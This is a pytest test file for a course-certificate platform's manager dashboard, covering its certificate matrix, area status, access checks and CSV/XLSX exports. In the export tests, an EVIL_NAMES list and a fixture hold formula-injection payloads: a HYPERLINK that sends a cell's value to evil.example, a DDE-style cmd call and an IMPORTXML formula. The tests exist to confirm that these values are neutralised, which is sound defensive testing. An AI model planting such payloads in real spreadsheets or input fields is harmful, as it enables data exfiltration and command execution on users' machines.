"""The manager's dashboard: certificate matrix, organisation status per area, CSV/XLSX exports, and who may see them."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import openpyxl
import pytest
from werkzeug.datastructures import MultiDict

from mso_academy.accounts.models import Role
from mso_academy.certificates import services as certificates
from mso_academy.db import utcnow
from mso_academy.errors import NotFound
from mso_academy.learning import services as learning
from mso_academy.organisations.models import (
    CourseAssignment,
    FunctionRequirement,
    MemberFunction,
    MemberRole,
    Membership,
    Organisation,
    OrgFunction,
)
from mso_academy.plugins.api import CourseType, hookimpl
from mso_academy.plugins.manager import plugins
from mso_academy.qualification import matrix, status
from mso_academy.qualification.matrix import CellState
from tests.conftest import login
from tests.factories import complete_course, make_course, make_user

LESSON = ("text_lesson", {"body": "Text", "minutes": 5})
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class AreasPlugin:
    @hookimpl
    def register_course_types(self) -> list[CourseType]:
        return [
            CourseType(slug="association-law", name="Association law"),
            CourseType(slug="bookkeeping", name="Bookkeeping"),
        ]


@pytest.fixture
def app_config():
    return {"EXTRA_PLUGINS": [AreasPlugin()], "ORG_EXPIRY_WARNING_DAYS": 60}


# --- helpers (also used by test_assignments.py) --------------------------------------------------------------


def make_organisation(session, name="Kulturverein Musterstadt e.V.", slug=None, **fields):
    organisation = Organisation(slug=slug or re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-"), name=name, **fields)
    session.add(organisation)
    session.flush()
    return organisation


def add_member(session, organisation, user, role=MemberRole.MEMBER, functions=()):
    membership = Membership(organisation_id=organisation.id, user_id=user.id, role=role)
    session.add(membership)
    session.flush()
    for function in functions:
        session.add(MemberFunction(membership_id=membership.id, function_id=function.id))
    session.flush()
    return membership


def add_function(session, organisation, name, requirements=()):
    """`requirements`: (course, min_holders) pairs."""
    function = OrgFunction(organisation_id=organisation.id, name=name)
    session.add(function)
    session.flush()
    for course, min_holders in requirements:
        session.add(FunctionRequirement(function_id=function.id, course_id=course.id, min_holders=min_holders))
    session.flush()
    session.refresh(function)
    return function


def complete(app, session, user, course):
    """Pass every activity of `course` through the services; returns the certificate issued."""
    with app.test_request_context():
        return complete_course(session, user, course)


def start(app, session, user, course):
    """Enrol and pass the first of the course's activities."""
    with app.test_request_context():
        enrolment = learning.enrol(session, plugins(), user, course)
        progress = learning.course_progress(session, course, enrolment)
        learning.submit(
            session, plugins(), progress, progress.states[0].activity.id, MultiDict({"done": "1"}), "tok-start"
        )
        session.flush()
        return enrolment


# --- fixtures -----------------------------------------------------------------------------------------------


@pytest.fixture
def law(session):
    return make_course(
        session,
        title="Vereinsrecht kompakt",
        course_type="association-law",
        modules=[[LESSON, LESSON, LESSON]],
        certificate_validity_months=24,
    )


@pytest.fixture
def bookkeeping(session):
    return make_course(
        session,
        title="Kassenführung im Verein",
        course_type="bookkeeping",
        modules=[[LESSON, LESSON]],
        certificate_validity_months=24,
    )


@pytest.fixture
def org(app, session, law, bookkeeping):
    """Board (2 must hold the law certificate), treasurer (1 must hold bookkeeping), and members in every state."""
    organisation = make_organisation(session, "Kulturverein Musterstadt e.V.", slug="kulturverein")
    board = add_function(session, organisation, "Board", [(law, 2)])
    treasurer = add_function(session, organisation, "Treasurer", [(bookkeeping, 1)])
    people = {}
    people["manager"] = make_user(session, name="Mona Manager")
    add_member(session, organisation, people["manager"], MemberRole.MANAGER)
    for key, name, functions in [
        ("valid", "Anna Valid", [board]),
        ("expiring", "Bert Expiring", [board]),
        ("expired", "Cem Expired", [treasurer]),
        ("progress", "Dana Progress", [treasurer]),
        ("missing", "Emil Missing", []),
        ("revoked", "Fatma Revoked", [board]),
    ]:
        people[key] = make_user(session, name=name)
        add_member(session, organisation, people[key], functions=functions)
    now = utcnow()
    complete(app, session, people["valid"], law)
    complete(app, session, people["expiring"], law).valid_until = now + timedelta(days=30)
    complete(app, session, people["expired"], bookkeeping).valid_until = now - timedelta(days=1)
    start(app, session, people["progress"], bookkeeping)
    certificate = complete(app, session, people["revoked"], law)
    certificate.revoked_at, certificate.revoked_reason = now, "test"
    session.commit()
    return {"organisation": organisation, "board": board, "treasurer": treasurer, "people": people}


def cells(snapshot_or_matrix, course):
    m = snapshot_or_matrix
    index = [c.course_id for c in m.columns].index(course.id)
    return {row.member.name: row.cells[index] for row in m.rows}


# --- the matrix ---------------------------------------------------------------------------------------------


def test_each_cell_has_the_state_of_the_members_certificate(session, org, law, bookkeeping):
    m = matrix.matrix(matrix.load(session, org["organisation"]))
    assert [c.title for c in m.columns] == ["Kassenführung im Verein", "Vereinsrecht kompakt"]
    assert [r.member.name for r in m.rows] == [
        "Anna Valid",
        "Bert Expiring",
        "Cem Expired",
        "Dana Progress",
        "Emil Missing",
        "Fatma Revoked",
        "Mona Manager",
    ]
    law_cells = cells(m, law)
    assert law_cells["Anna Valid"].state == CellState.VALID
    assert law_cells["Bert Expiring"].state == CellState.EXPIRING
    assert law_cells["Fatma Revoked"].state == CellState.MISSING  # a revoked certificate counts as none
    assert law_cells["Emil Missing"].state == CellState.MISSING
    assert law_cells["Anna Valid"].required and not law_cells["Emil Missing"].required
    books = cells(m, bookkeeping)
    assert books["Cem Expired"].state == CellState.EXPIRED
    assert books["Dana Progress"].state == CellState.IN_PROGRESS
    assert (books["Dana Progress"].done, books["Dana Progress"].total, books["Dana Progress"].percent) == (1, 2, 50)
    assert books["Anna Valid"].state == CellState.MISSING


def test_a_renewal_in_progress_after_expiry_shows_in_progress(app, session, org, bookkeeping):
    cem = org["people"]["expired"]
    with app.test_request_context():
        enrolment = learning.find_enrolment(session, cem.id, bookkeeping.id)
        enrolment.status, enrolment.cycle, enrolment.completed_at = "active", 2, None
    session.commit()
    cell = cells(matrix.matrix(matrix.load(session, org["organisation"])), bookkeeping)["Cem Expired"]
    assert cell.state == CellState.IN_PROGRESS and cell.valid_until is not None


def test_the_warning_window_comes_from_the_configuration(app, session, org, law):
    app.config["ORG_EXPIRY_WARNING_DAYS"] = 10
    assert cells(matrix.matrix(matrix.load(session, org["organisation"])), law)["Bert Expiring"].state == "valid"


def test_filter_by_function_shows_its_holders(session, org):
    snapshot = matrix.load(session, org["organisation"])
    m = matrix.matrix(snapshot, org["board"].id)
    assert [r.member.name for r in m.rows] == ["Anna Valid", "Bert Expiring", "Fatma Revoked"]
    assert m.function.name == "Board"


def test_a_function_of_another_organisation_is_not_found(session, org):
    other = make_organisation(session, "Anderer Verein", slug="anderer")
    foreign = add_function(session, other, "Board")
    with pytest.raises(NotFound):
        matrix.matrix(matrix.load(session, org["organisation"]), foreign.id)


def test_assigned_courses_become_columns(session, org):
    extra = make_course(session, title="Datenschutz", modules=[[LESSON]])
    emil = org["people"]["missing"]
    session.add(
        CourseAssignment(
            organisation_id=org["organisation"].id,
            user_id=emil.id,
            course_id=extra.id,
            due_on=(utcnow() + timedelta(days=20)).date(),
        )
    )
    session.flush()
    m = matrix.matrix(matrix.load(session, org["organisation"]))
    assert [c.title for c in m.columns][-1] == "Datenschutz"
    cell = cells(m, extra)["Emil Missing"]
    assert cell.state == CellState.MISSING and cell.assigned and cell.due_on is not None


# --- status per area ----------------------------------------------------------------------------------------


def test_status_per_area_says_what_is_missing(app, session, org):
    with app.test_request_context():
        areas = {str(a.name): a for a in status.areas(matrix.load(session, org["organisation"]))}
        assert list(areas) == ["Association law", "Bookkeeping"]
        assert areas["Association law"].qualified  # Anna valid, Bert expiring soon but still valid: 2 of 2
        assert not areas["Bookkeeping"].qualified
        (missing,) = areas["Bookkeeping"].missing
        assert (missing.function_name, missing.held, missing.needed) == ("Treasurer", 0, 1)
        assert missing.describe() == ("Treasurer: 0 of 1 needed hold a valid certificate for Kassenführung im Verein.")


def test_an_expired_or_revoked_certificate_does_not_count(app, session, org, law):
    bert = org["people"]["expiring"]
    (certificate,) = certificates.for_user(session, bert.id)
    certificate.valid_until = utcnow() - timedelta(minutes=1)
    session.commit()
    with app.test_request_context():
        areas = {str(a.name): a for a in status.areas(matrix.load(session, org["organisation"]))}
        law_status = areas["Association law"]
        assert not law_status.qualified
        assert law_status.missing[0].describe() == (
            "Board: 1 of 2 needed hold a valid certificate for Vereinsrecht kompakt."
        )


def test_too_few_holders_of_a_function_is_said(app, session, org, law):
    committee = add_function(session, org["organisation"], "Committee", [(law, 3)])
    add_member(session, org["organisation"], make_user(session, name="Gül Committee"), functions=[committee])
    session.commit()
    with app.test_request_context():
        areas = status.areas(matrix.load(session, org["organisation"]))
        requirement = next(r for a in areas for r in a.requirements if r.function_name == "Committee")
        assert requirement.describe().endswith("Only 1 member holds this function.")


def test_public_status_is_empty_unless_the_organisation_shows_it(app, session, org):
    organisation = org["organisation"]
    with app.test_request_context():
        assert status.public_status(session, organisation) == []
        organisation.show_status_publicly = True
        result = status.public_status(session, organisation)
    assert [(a.course_type, a.qualified) for a in result] == [("association-law", True), ("bookkeeping", False)]
    assert set(vars(result[0])) == {"course_type", "name", "qualified"}  # nothing about people


def test_the_public_page_shows_the_status_when_the_organisation_wants(client, session, org):
    organisation = org["organisation"]
    organisation.is_public = True
    session.commit()
    url = f"/organisations/{organisation.slug}/public"
    assert "Association law" not in client.get(url).get_data(as_text=True)
    organisation.show_status_publicly = True
    session.commit()
    page = client.get(url).get_data(as_text=True)
    assert "Association law" in page and "Bookkeeping" in page  # the organisations package renders public_status
    assert "Anna Valid" not in page and "Treasurer" not in page


# --- the page -----------------------------------------------------------------------------------------------


def dashboard_url(organisation):
    return f"/organisations/{organisation.slug}/dashboard"


def test_manager_sees_status_and_matrix(client, org):
    login(client, org["people"]["manager"].email)
    response = client.get(dashboard_url(org["organisation"]))
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Organisation status" in page and "Certificate matrix" in page
    assert "Qualified" in page and "Not qualified yet" in page
    assert "Treasurer: 0 of 1 needed hold a valid certificate for Kassenführung im Verein." in page
    for text in ("Valid", "Expires soon", "Expired", "In progress", "Missing"):
        assert text in page
    assert 'class="matrix-cards"' in page and "matrix-table" in page
    assert f"/organisations/{org['organisation'].slug}/matrix.csv" in page


def test_filtered_page_lists_only_the_functions_holders(client, org):
    login(client, org["people"]["manager"].email)
    page = client.get(dashboard_url(org["organisation"]) + f"?function={org['treasurer'].id}").get_data(as_text=True)
    assert "Cem Expired" in page and "Dana Progress" in page
    assert "Anna Valid</bdi></h3>" not in page
    assert f"matrix.csv?function={org['treasurer'].id}" in page


def test_an_admin_may_open_every_dashboard(client, session, org):
    admin = make_user(session, roles=(Role.ADMIN,))
    session.commit()
    login(client, admin.email)
    assert client.get(dashboard_url(org["organisation"])).status_code == 200


def test_an_organisation_without_requirements_says_so(client, session):
    organisation = make_organisation(session, "Neuer Verein", slug="neu")
    manager = make_user(session)
    add_member(session, organisation, manager, MemberRole.MANAGER)
    session.commit()
    login(client, manager.email)
    page = client.get(dashboard_url(organisation)).get_data(as_text=True)
    assert "No function of the organisation requires a course yet." in page
    assert "No course is required by a function or assigned yet" in page


# --- who may see it (bad input) -----------------------------------------------------------------------------

PAGES = ["dashboard", "matrix.csv", "matrix.xlsx", "progress.csv", "progress.xlsx"]


@pytest.mark.parametrize("page", PAGES)
def test_manager_of_another_organisation_gets_404(client, session, org, page):
    other = make_organisation(session, "Anderer Verein", slug="anderer-verein")
    other_manager = make_user(session)
    add_member(session, other, other_manager, MemberRole.MANAGER)
    session.commit()
    login(client, other_manager.email)
    assert client.get(f"/organisations/{other.slug}/{page}").status_code == 200
    response = client.get(f"/organisations/{org['organisation'].slug}/{page}")
    assert response.status_code == 404
    assert "Anna Valid" not in response.get_data(as_text=True)


@pytest.mark.parametrize("page", PAGES)
def test_a_member_who_is_no_manager_gets_404(client, org, page):
    login(client, org["people"]["valid"].email)
    assert client.get(f"/organisations/{org['organisation'].slug}/{page}").status_code == 404


@pytest.mark.parametrize("page", PAGES)
def test_an_unknown_organisation_gets_the_same_404(client, org, page):
    login(client, org["people"]["manager"].email)
    assert client.get(f"/organisations/no-such-organisation/{page}").status_code == 404


def test_anonymous_visitors_are_sent_to_log_in(client, org):
    response = client.get(dashboard_url(org["organisation"]))
    assert response.status_code == 302 and "/account/login" in response.headers["Location"]


def test_filtering_by_another_organisations_function_gets_404(client, session, org):
    other = make_organisation(session, "Anderer Verein", slug="anderer-verein")
    foreign = add_function(session, other, "Secret board")
    session.commit()
    login(client, org["people"]["manager"].email)
    assert client.get(dashboard_url(org["organisation"]) + f"?function={foreign.id}").status_code == 404
    assert client.get(f"/organisations/{org['organisation'].slug}/matrix.csv?function={foreign.id}").status_code == 404


# --- exports ------------------------------------------------------------------------------------------------

EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab first",
    "\rCarriage first",
]


@pytest.fixture
def evil(session, org, law):
    """Members, a function and a course whose names a spreadsheet would run as formulas."""
    organisation = org["organisation"]
    function = add_function(session, organisation, "=1+1 board", [(law, 1)])
    users = []
    for number, name in enumerate(EVIL_NAMES):
        user = make_user(session, email=f"evil{number}@example.org")
        user.name = name  # directly: the account service strips leading whitespace
        add_member(session, organisation, user, functions=[function])
        users.append(user)
    users[0].email = "=evil@example.org"
    course = make_course(session, title="=IMPORTXML(A1)", modules=[[LESSON]])
    session.add(
        CourseAssignment(organisation_id=organisation.id, user_id=users[1].id, course_id=course.id, due_on=None)
    )
    session.commit()
    return users


def read_csv(response):
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def check_download(response, content_type, filename):
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith(content_type)
    assert response.headers["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert response.headers["Cache-Control"] == "private, no-store"


def test_matrix_csv(client, org):
    login(client, org["people"]["manager"].email)
    response = client.get("/organisations/kulturverein/matrix.csv")
    check_download(response, "text/csv; charset=utf-8", "certificates-kulturverein.csv")
    rows = read_csv(response)
    assert rows[0] == ["Name", "E-mail", "Role", "Functions", "Kassenführung im Verein", "Vereinsrecht kompakt"]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Anna Valid"][2:4] == ["Member", "Board"]
    assert by_name["Anna Valid"][5].startswith("Valid until 20")
    assert by_name["Bert Expiring"][5].startswith("Expires on 20")
    assert by_name["Cem Expired"][4].startswith("Expired on 20")
    assert by_name["Dana Progress"][4].startswith("In progress: ")
    assert by_name["Emil Missing"][4:] == ["Missing", "Missing"]
    assert by_name["Mona Manager"][2] == "Manager"


def test_matrix_csv_filtered_by_function(client, org):
    login(client, org["people"]["manager"].email)
    rows = read_csv(client.get(f"/organisations/kulturverein/matrix.csv?function={org['board'].id}"))
    assert [row[0] for row in rows[1:]] == ["Anna Valid", "Bert Expiring", "Fatma Revoked"]


def test_progress_csv_has_a_row_per_member_and_course(client, org):
    login(client, org["people"]["manager"].email)
    response = client.get("/organisations/kulturverein/progress.csv")
    check_download(response, "text/csv; charset=utf-8", "progress-kulturverein.csv")
    rows = read_csv(response)
    header = rows[0]
    assert header[:6] == ["Name", "E-mail", "Functions", "Course", "Required for a function", "Enrolment"]
    assert len(rows) == 1 + 7 * 2
    record = {(row[0], row[3]): dict(zip(header, row, strict=True)) for row in rows[1:]}
    dana = record[("Dana Progress", "Kassenführung im Verein")]
    assert dana["Enrolment"] == "In progress" and dana["Certificate"] == "In progress"
    assert (dana["Activities done"], dana["Activities"], dana["Progress (%)"]) == ("1", "2", "50")
    anna = record[("Anna Valid", "Vereinsrecht kompakt")]
    assert anna["Enrolment"] == "Completed" and anna["Required for a function"] == "yes"
    assert anna["Activities done"] == "3" and anna["Progress (%)"] == "100"
    assert anna["Valid until"][:2] == "20" and anna["Completed on"][:2] == "20"
    assert record[("Emil Missing", "Vereinsrecht kompakt")]["Enrolment"] == "Not enrolled"


@pytest.mark.parametrize("export", ["matrix", "progress"])
def test_formulas_are_neutralised_in_csv(client, org, evil, export):
    login(client, org["people"]["manager"].email)
    rows = read_csv(client.get(f"/organisations/kulturverein/{export}.csv"))
    text = [cell for row in rows for cell in row]
    for name in EVIL_NAMES:
        assert "'" + name in text
        assert name not in text
    assert "'=evil@example.org" in text
    assert any(cell == "'=1+1 board" for cell in text)
    assert "'=IMPORTXML(A1)" in text
    assert not [cell for cell in text if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("export", ["matrix", "progress"])
def test_formulas_are_neutralised_in_xlsx(client, org, evil, export):
    login(client, org["people"]["manager"].email)
    response = client.get(f"/organisations/kulturverein/{export}.xlsx")
    check_download(response, XLSX, f"{'certificates' if export == 'matrix' else 'progress'}-kulturverein.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    values = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                values[cell.value] = cell
    for name in [*EVIL_NAMES, "=evil@example.org", "=IMPORTXML(A1)"]:
        name = name.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        cell = values.get("'" + name)
        assert cell is not None, f"{name!r} is not neutralised"
        assert cell.data_type == "s" and cell.quotePrefix
        assert name not in values
    assert any(value.startswith("'=1+1 board") for value in values)
    assert not [value for value in values if value[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_has_the_same_content_as_csv_with_real_dates(client, org):
    login(client, org["people"]["manager"].email)
    rows = read_csv(client.get("/organisations/kulturverein/progress.csv"))
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/organisations/kulturverein/progress.xlsx").get_data()))
    sheet_rows = [[("" if v is None else v) for v in row] for row in workbook.active.iter_rows(values_only=True)]
    assert sheet_rows[0] == rows[0]
    assert len(sheet_rows) == len(rows)
    header = rows[0]
    anna = next(row for row in sheet_rows if row[0] == "Anna Valid" and row[3] == "Vereinsrecht kompakt")
    assert anna[header.index("Activities done")] == 3
    completed = anna[header.index("Completed on")]
    assert hasattr(completed, "year")  # a date cell, not text
    csv_anna = next(row for row in rows if row[0] == "Anna Valid" and row[3] == "Vereinsrecht kompakt")
    assert completed.date().isoformat() == csv_anna[header.index("Completed on")]


# --- queries ------------------------------------------------------------------------------------------------


def test_number_of_queries_does_not_grow_with_members_and_certificates(
    app, client, session, org, law, bookkeeping, select_queries
):
    queries_for = select_queries

    urls = [
        dashboard_url(org["organisation"]),
        "/organisations/kulturverein/matrix.csv",
        "/organisations/kulturverein/progress.xlsx",
    ]
    login(client, org["people"]["manager"].email)
    few = [len(queries_for(url)) for url in urls]
    for n in range(8):
        user = make_user(session, name=f"Extra {n}")
        add_member(session, org["organisation"], user, functions=[org["board"] if n % 2 else org["treasurer"]])
        complete(app, session, user, law if n % 2 else bookkeeping)
        if n % 3 == 0:
            start(app, session, user, bookkeeping if n % 2 else law)
    session.commit()
    many = [len(queries_for(url)) for url in urls]
    assert few == many
    assert max(many) <= 16
